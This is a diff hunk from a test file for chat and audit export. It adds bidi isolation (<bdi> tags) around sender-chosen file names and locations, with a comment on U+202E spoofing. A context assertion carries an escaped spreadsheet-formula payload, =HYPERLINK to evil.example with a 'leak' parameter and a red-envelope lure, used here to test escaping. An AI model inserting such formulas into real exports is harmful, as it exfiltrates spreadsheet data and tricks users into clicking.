@@ -144,11 +144,12 @@ describe.each(STORE_ENGINES)('chatExport and auditExport on %s', (engine) => {
     expect(body).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;点我领红包&quot;)');
     expect(body).toContain('你好，我要退款 🙏😀');
     for (const words of [
-      '[图片] 发票.jpg',
+      '[图片] <bdi>发票.jpg</bdi>',
       '[语音] 7 秒',
       '[视频] 12 秒 1.0 MB',
-      '[位置] 北京市朝阳区幸福路 7 号',
-      '[文件] 合同.pdf 20.0 KB',
+      '[位置] <bdi>北京市朝阳区幸福路 7 号</bdi>',
+      // A name the sender chose is isolated: a U+202E in it turns only the name, not the size.
+      '[文件] <bdi>合同.pdf</bdi> 20.0 KB',
       '[指令消息] typing',
       '[自定义消息] order',
       '（已撤回）',
